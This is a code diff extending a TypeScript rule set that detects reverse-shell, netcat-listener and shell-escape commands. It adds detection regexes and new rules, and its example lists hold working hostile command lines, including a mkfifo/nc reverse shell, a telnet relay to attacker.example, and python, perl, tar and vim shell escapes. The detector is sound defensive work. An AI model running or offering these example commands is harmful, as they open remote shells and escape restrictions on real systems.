@@ -3,9 +3,13 @@ import type { Invocation } from "../resolve.js";
 import type { CommandRule } from "../rule.js";
 import { downstreamNames, intersects, SHELLS, upstreamNames } from "./facts.js";
 
-const SOCKET_CODE = /socket|fsockopen|tcpsocket|net\.socket|net\.connect|\/inet\/tcp|io\.popen|require\(['"]net['"]\)/i;
-const SPAWN_CODE = /\|&\s*getline|subprocess|pty\.spawn|os\.dup2|exec\s*\(|exec\s+["']|spawn\(|popen|system\s*\(|\/bin\/(?:ba)?sh|sh\s+-i|child_process|proc_open/i;
+const SOCKET_CODE = /socket|fsockopen|tcpsocket|net\.socket|net\.connect|net\.Dial|\/inet\/tcp|io\.popen|require\(['"]net['"]\)/i;
+const SPAWN_CODE = /\|&\s*getline|exec\.Command|\bsystem\b|\bexec\b|subprocess|pty\.spawn|os\.dup2|exec\s*\(|exec\s+["']|spawn\(|popen|system\s*\(|\/bin\/(?:ba)?sh|sh\s+-i|child_process|proc_open/i;
+/** A quoted or backticked path to a shell inside inline code: `call(['/bin/bash'])`, `print \`/bin/sh\``. */
+const QUOTED_SHELL = /["'`]\/bin\/(?:ba|z|da|k)?sh["'`\s]/;
 const SHELL_SPAWN = /(?:system|exec|spawn|popen|os\.execl?p?|pty\.spawn)\s*\(?\s*["'`](?:\/bin\/)?(?:ba|z|k|da)?sh(?:\s+-[ip]+)?["'`]|!\s*\/?(?:bin\/)?(?:ba)?sh\b|:!\s*(?:\/bin\/)?sh|exec\s*["'](?:\/bin\/)?(?:ba)?sh/i;
+
+const INLINE_INTERPRETERS = new Set(["python", "python2", "python3", "perl", "ruby", "php", "node", "nodejs", "lua", "irb", "jjs", "awk", "gawk", "gdb", "vim", "vi", "nvim"]);
 
 function inlineCode(inv: Invocation): string {
   const flags = new Set(["-c", "-e", "-E", "-r", "-R", "--eval", "-x", "-exec", "--command", "-command"]);
@@ -47,6 +51,18 @@ export const reverseShellRules: CommandRule[] = [
     examples: {
       positive: ["nc -e /bin/sh 10.0.0.1 4444", "ncat 10.0.0.1 4444 --sh-exec /bin/bash", "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 1234 >/tmp/f", "telnet attacker.example 23 | /bin/bash | telnet attacker.example 24", "nc -lvp 4444 -e cmd.exe"],
       negative: ["nc -zv db.internal 5432", "echo ping | nc localhost 6379"],
+    },
+  },
+  {
+    id: "netcat-listener",
+    description: "netcat listening for an incoming connection (bind shell or catching a reverse shell)",
+    severity: "medium",
+    reason: "semantic:destructive_command",
+    names: ["nc", "ncat", "netcat", "nc.traditional", "nc.openbsd"],
+    check: (inv) => inv.args.some((a) => a === "-l" || a === "--listen" || /^-[a-z]*l[a-z]*$/.test(a)) && !inv.redirects.some((r) => r.op === ">" || r.op === ">>"),
+    examples: {
+      positive: ["nc -u -lvp 4242", "ncat -l 4444", "nc -nlvp 9001"],
+      negative: ["nc -l 9000 > received.bin", "nc -zv host 22"],
     },
   },
   {
@@ -96,10 +112,13 @@ export const reverseShellRules: CommandRule[] = [
       const joined = inv.args.join(" ");
       if (SHELLS.has(name)) return false;
       if (/--checkpoint-action=exec=|--to-command=.*sh|-TT\b|--use-compress-program=.*sh/.test(joined)) return true;
+      if (name === "nmap" && inv.args.includes("--interactive")) return true;
+      if (name === "script" && inv.args.some((a) => /^-[a-z]*c$/.test(a)) && /(?:^|\/)(?:ba|z|da)?sh\b/.test(joined)) return true;
+      if (INLINE_INTERPRETERS.has(name) && QUOTED_SHELL.test(`${joined} `)) return true;
       return SHELL_SPAWN.test(joined);
     },
     examples: {
-      positive: ["find . -exec /bin/sh \\; -quit", "awk 'BEGIN {system(\"/bin/sh\")}'", "vim -c ':!/bin/sh'", "tar -cf /dev/null /dev/null --checkpoint=1 --checkpoint-action=exec=/bin/sh", "python3 -c 'import pty;pty.spawn(\"/bin/bash\")'", "perl -e 'exec \"/bin/sh\";'", "bash -p"],
+      positive: ["python3 -c \"__import__('subprocess').call(['/bin/bash'])\"", "perl -e 'print `/bin/bash`'", "nmap --interactive", "/usr/bin/script -qc /bin/bash /dev/null", "find . -exec /bin/sh \\; -quit", "awk 'BEGIN {system(\"/bin/sh\")}'", "vim -c ':!/bin/sh'", "tar -cf /dev/null /dev/null --checkpoint=1 --checkpoint-action=exec=/bin/sh", "python3 -c 'import pty;pty.spawn(\"/bin/bash\")'", "perl -e 'exec \"/bin/sh\";'", "bash -p"],
       negative: ["find . -name '*.sh' -exec chmod +x {} \\;", "awk '{print $1}' file", "vim notes.md", "python3 -c 'import os; print(os.getcwd())'"],
     },
   },
